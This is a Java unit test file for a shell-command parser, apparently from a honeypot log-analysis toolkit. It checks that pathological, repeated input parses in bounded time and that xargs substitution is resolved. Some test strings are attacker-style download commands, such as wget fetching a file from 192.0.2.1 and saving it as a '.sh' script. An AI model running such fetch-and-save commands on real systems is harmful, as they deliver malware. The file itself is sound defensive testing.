package io.github.cowriekit.analysis.internal.commands;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Lines that were made to cost: they end, and what is made of them stays within a small multiple of their length. */
class CostlyLinesTest {
    private static final int REPEATED = 20_000;

    @Test
    void longPathsAreReadWithoutRecursion() {
        assertThat(ShellReader.read("/bin/" + "./".repeat(REPEATED) + "wget x"))
                .extracting(ShellCommand::program)
                .containsExactly("wget");
        assertThat(ShellReader.read("/usr/bin/" + "../sbin/".repeat(REPEATED) + "wget x"))
                .extracting(ShellCommand::program)
                .containsExactly("wget");
    }

    @Test
    void variablesMakeBoundedText() {
        String line = "x=" + "A".repeat(1_000) + ";echo " + "$x".repeat(REPEATED);

        assertThat(made(line)).isLessThan(300_000);
    }

    @Test
    void inputOfXargsMakesBoundedText() {
        String line = "echo " + "A".repeat(900) + " | xargs -I x echo " + "x".repeat(REPEATED);

        assertThat(made(line)).isLessThan(300_000);
    }

    @Test
    void xargsStillPutsItsInputInPlaceOfAMark() {
        List<ShellCommand> commands = ShellReader.read("echo http://192.0.2.1/a | xargs -I {} wget {} -O {}.sh");

        assertThat(commands)
                .filteredOn(command -> command.program().equals("wget"))
                .first()
                .extracting(ShellCommand::arguments)
                .isEqualTo(List.of("http://192.0.2.1/a", "-O", "http://192.0.2.1/a.sh"));
    }

    @Test
    void blankInputOfXargsTakesTheMarkAway() {
        assertThat(ShellReader.read("echo ' ' | xargs -I{} wget http://192.0.2.1/{}"))
                .filteredOn(command -> command.program().equals("wget"))
                .first()
                .extracting(ShellCommand::arguments)
                .isEqualTo(List.of("http://192.0.2.1/"));
    }

    /** Each took time by the square of the length. */
    @ParameterizedTest
    @ValueSource(strings = {"${a}", "${a$(}", "<<a ", "${a}<<a "})
    @Timeout(120)
    void repeatedOpeningsEnd(String part) {
        assertThat(ShellReader.read("echo " + part.repeat(1 << 20))).isNotEmpty();
    }

    private static int made(String line) {
        return ShellReader.read(line).stream()
                .flatMap(command -> Stream.concat(Stream.of(command.program()), command.arguments().stream()))
                .mapToInt(String::length)
                .sum();
    }
}
